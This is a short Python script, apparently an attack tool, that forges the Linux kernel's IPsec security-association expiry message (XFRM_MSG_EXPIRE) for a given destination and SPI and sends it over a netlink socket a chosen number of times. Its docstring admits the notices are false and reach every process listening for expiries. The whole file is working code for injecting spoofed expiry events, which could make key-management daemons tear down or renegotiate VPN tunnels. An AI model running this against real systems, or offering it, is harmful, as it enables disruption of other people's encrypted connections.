"""Has the kernel tell COUNT times that a security association nears its end, and no word of it is true.

    xfrm-expiries.py COUNT DESTINATION SPI

XFRM_MSG_EXPIRE as key managers may send it (linux/xfrm.h); everybody who listens for expiries hears it.
"""
import socket
import struct
import sys

NETLINK_XFRM = 6
XFRM_MSG_EXPIRE = 0x18
NLM_F_REQUEST = 1
ESP = 50
STATE_LENGTH = 224      # struct xfrm_usersa_info
ID = 56                 # offsets in it
FAMILY = 212

count, destination, spi = int(sys.argv[1]), sys.argv[2], int(sys.argv[3], 0)
expire = bytearray(STATE_LENGTH + 8)
expire[ID:ID + 4] = socket.inet_aton(destination)
struct.pack_into("!IB", expire, ID + 16, spi, ESP)
struct.pack_into("=H", expire, FAMILY, socket.AF_INET)
message = struct.pack("=IHHII", 16 + len(expire), XFRM_MSG_EXPIRE, NLM_F_REQUEST, 0, 0) + expire
with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_XFRM) as kernel:
    for _ in range(count):
        kernel.send(message)
